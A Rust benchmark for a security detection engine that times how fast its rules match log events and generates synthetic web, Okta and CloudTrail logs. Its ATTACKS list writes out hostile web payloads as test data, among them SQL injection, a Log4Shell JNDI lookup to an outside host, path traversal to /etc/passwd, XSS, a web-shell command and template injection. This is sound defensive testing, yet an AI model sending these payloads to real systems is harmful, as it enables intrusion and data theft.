//! How many events a second one core takes.
//!
//! `throughput <rules folder> <events.ndjson>` loads all rules of the folder, then matches the lines of the file as
//! JSON (parsing included), and a like number of typed events of our own. `throughput generate <count>` writes
//! events to use: requests to a web server, sign-ins of Okta and acts in `CloudTrail`, one in a hundred an attack.

#![allow(clippy::print_stdout, clippy::print_stderr)]

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use testudo_core::{EventKind, HttpFacts, Pseudonym, Timestamp};
use testudo_detection::{Details, Detector, Options, Record, Rules, pack};

/// The time that this thread had on a core, where the system says it, so that others on the machine don't count.
fn spent() -> f64 {
    static START: std::sync::OnceLock<Instant> = std::sync::OnceLock::new();
    let wall = START.get_or_init(Instant::now).elapsed().as_secs_f64();
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    text.split(' ').next().and_then(|nanos| nanos.parse::<f64>().ok()).map_or(wall, |nanos| nanos / 1e9)
}

type Failure = Box<dyn std::error::Error>;

fn main() -> Result<(), Failure> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
        ["generate", count] => generate(count.parse()?),
        [rules, events] => measure(Path::new(rules), Path::new(events)),
        _ => Err("write `throughput <rules folder> <events.ndjson>` or `throughput generate <count>`".into()),
    }
}

fn measure(folder: &Path, events: &Path) -> Result<(), Failure> {
    let mut rules = Rules::new();
    let mut failed = 0;
    for path in files(folder)? {
        if let Err(errors) = rules.add(&path.display().to_string(), &std::fs::read_to_string(&path)?) {
            eprintln!("{errors}");
            failed += 1;
        }
    }
    let mut detector = rules.compile(Options { repeat: Duration::ZERO, ..Options::default() })?;
    println!("rules: {} loaded, {failed} failed; {:?}", rules.len(), detector.shape());
    let text = std::fs::read_to_string(events)?;
    let lines: Vec<&str> = text.lines().collect();
    let mut best = f64::MAX;
    let mut hits: BTreeMap<String, usize> = BTreeMap::new();
    for round in 0..5 {
        let mut count = 0;
        let start = spent();
        for line in &lines {
            for rule in detector.matches_json(line)? {
                count += 1;
                if round == 4 {
                    *hits.entry(rule.id.clone()).or_default() += 1;
                }
            }
        }
        if round < 4 {
            best = best.min(spent() - start);
        } else {
            println!("json: {} events, {count} matches of {} rules", lines.len(), hits.len());
        }
    }
    rate("json, parsing included", lines.len(), best);
    if let Ok(path) = std::env::var("MATCHES") {
        let listed: Vec<String> = hits.iter().map(|(rule, count)| format!("{rule} {count}\n")).collect();
        std::fs::write(path, listed.concat())?;
    }

    let records: Vec<Record> = (0..100_000).map(own).collect();
    typed("typed, the same rules", &mut detector, &records);
    let mut alerts = Vec::new();
    pack(&mut rules)?;
    let mut detector = rules.compile(Options::default())?;
    typed("typed, the same rules and our own, without correlations", &mut detector, &records);
    let start = spent();
    for (record, seq) in records.iter().zip(0..) {
        detector.observe(&record.view(), seq, &mut alerts);
    }
    rate("typed, all of it", records.len(), spent() - start);
    println!("{} alerts, {} groups, {:?}", alerts.len(), detector.groups(), detector.counters());
    Ok(())
}

fn typed(what: &str, detector: &mut Detector, records: &[Record]) {
    let mut best = f64::MAX;
    let mut count = 0;
    for _ in 0..4 {
        let start = spent();
        count = records.iter().map(|record| detector.matches(&record.view()).count()).sum();
        best = best.min(spent() - start);
    }
    rate(what, records.len(), best);
    println!("  {count} matches");
}

#[expect(clippy::cast_precision_loss, reason = "a count of events")]
fn rate(what: &str, events: usize, seconds: f64) {
    println!("{what}: {:.0} events/s", events as f64 / seconds);
}

fn files(folder: &Path) -> Result<Vec<PathBuf>, Failure> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder)? {
            let path = entry?.path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|extension| extension == "yml") {
                found.push(path);
            }
        }
    }
    found.sort();
    Ok(found)
}

const PATHS: [&str; 8] = [
    "/v1/accounts/4711/transactions?limit=50&after=2026-03-01",
    "/v1/accounts/4711",
    "/v1/transfers",
    "/v1/profile/picture?size=256",
    "/v1/cards/9/limits",
    "/v1/feed?page=3&lang=de-DE&since=1772407800",
    "/v1/messages/unread/count",
    "/v1/devices/register",
];
const ATTACKS: [&str; 8] = [
    "/v1/accounts?id=1' union select null,null,version()--",
    "/search?q=${jndi:ldap://192.0.2.7/a}",
    "/v1/files?name=../../../../etc/passwd",
    "/.git/config",
    "/v1/search?q=<script>alert(1)</script>",
    "/cgi-bin/.%2e/.%2e/bin/sh",
    "/shell.jsp?cmd=whoami",
    "/v1/x?{{7*7}}&__import__('os')",
];
const AGENTS: [&str; 4] = [
    "Wallet/4.2.1 (iPhone15,3; iOS 19.1) CFNetwork/1568.200.51 Darwin/24.1.0",
    "okhttp/4.12.0",
    "Wallet/4.2.0 (Pixel 9; Android 16)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15",
];

fn pick<T: Copy>(from: &[T], number: u64, otherwise: T) -> T {
    let length = u64::try_from(from.len()).unwrap_or(1);
    usize::try_from(number % length).ok().and_then(|index| from.get(index)).copied().unwrap_or(otherwise)
}

/// A number that looks random, from a place.
fn mix(number: u64) -> u64 {
    let mut number = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    number ^= number >> 29;
    number = number.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    number ^ (number >> 32)
}

fn path(number: u64) -> &'static str {
    let attack = number.is_multiple_of(100);
    if attack { pick(&ATTACKS, number / 100, "/") } else { pick(&PATHS, number, "/") }
}

fn own(place: u64) -> Record {
    let number = mix(place);
    let at = Timestamp::from_micros(1_772_407_800_000_000 + i64::try_from(place).unwrap_or(0) * 200);
    let mut record = Record::new(EventKind::RequestDecided, at);
    let name = |number: u64| Some(Pseudonym(u128::from(mix(number)).to_be_bytes()));
    record.person = name(number % 5_000);
    record.address = name(1 << 40 | (number % 3_000));
    record.network = name(1 << 41 | (number % 900));
    record.http = Some(HttpFacts {
        method: if number.is_multiple_of(4) { "POST".into() } else { "GET".into() },
        route: "/v1/accounts/{id}".into(),
        status: pick(&[200, 200, 200, 200, 201, 304, 404, 500], number >> 9, 200),
        bytes_in: number % 900,
        bytes_out: number % 90_000,
        micros: number % 40_000,
        path: Some(path(number).to_owned()),
        user_agent: Some(pick(&AGENTS, number >> 20, "okhttp/4.12.0").to_owned()),
    });
    record.details = Details::new();
    record
}

fn generate(count: u64) -> Result<(), Failure> {
    let mut out = std::io::BufWriter::new(std::io::stdout().lock());
    for place in 0..count {
        let number = mix(place);
        let time = Timestamp::from_micros(1_772_407_800_000_000 + i64::try_from(place)? * 1_000);
        let address = format!("198.51.{}.{}", (number >> 8) % 256, (number >> 16) % 256);
        let event = match number % 10 {
            0..6 => {
                let uri = path(number / 10);
                let (stem, query) = uri.split_once('?').unwrap_or((uri, ""));
                serde_json::json!({
                    "@timestamp": time.to_string(), "cs-method": if number.is_multiple_of(4) { "POST" } else { "GET" },
                    "c-uri": uri, "cs-uri-stem": stem, "cs-uri-query": query, "c-ip": address,
                    "sc-status": pick(&[200, 200, 200, 201, 304, 404, 500], number >> 9, 200),
                    "cs-user-agent": pick(&AGENTS, number >> 20, ""), "sc-bytes": number % 90_000,
                    "cs-host": "api.example.com", "time-taken": number % 400
                })
            }
            6..8 => serde_json::json!({
                "published": time.to_string(),
                "eventType": if number.is_multiple_of(100) { "user.account.lock" } else { "user.session.start" },
                "actor": {"id": format!("00u{:x}", number % 4_000), "alternateId": "someone@example.com", "type": "User"},
                "client": {"ipAddress": address, "userAgent": {"rawUserAgent": pick(&AGENTS, number >> 20, "")}},
                "outcome": {"result": "SUCCESS"}, "displayMessage": "User login to Okta", "severity": "INFO"
            }),
            _ => serde_json::json!({
                "eventTime": time.to_string(), "eventSource": "s3.amazonaws.com",
                "eventName": if number.is_multiple_of(100) { "PutBucketReplication" } else { "GetObject" },
                "userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/app/i-0abc"},
                "sourceIPAddress": address, "awsRegion": "eu-central-1", "userAgent": "aws-sdk-rust/1.3",
                "requestParameters": {"bucketName": "data", "key": format!("k/{number:x}")}
            }),
        };
        writeln!(out, "{event}")?;
    }
    Ok(out.flush()?)
}
